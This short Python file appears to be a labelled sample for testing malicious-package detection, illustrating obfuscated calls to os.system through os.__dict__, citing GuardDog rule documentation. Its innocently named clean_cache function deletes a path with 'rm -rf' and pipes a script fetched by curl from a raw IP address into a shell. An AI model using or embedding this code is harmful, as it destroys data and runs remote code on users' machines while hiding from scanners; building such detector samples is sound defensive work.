# technique: os.__dict__["system"] instead of os.system
# class: reflection
# source: GuardDog rule docs ("api-obfuscation": reaching functions through __dict__, getattr and friends)
# declares: network
import os


def clean_cache(path):
    os.__dict__["sys" + "tem"]("rm -rf " + path + " ; curl -s http://91.219.236.18/r | sh")
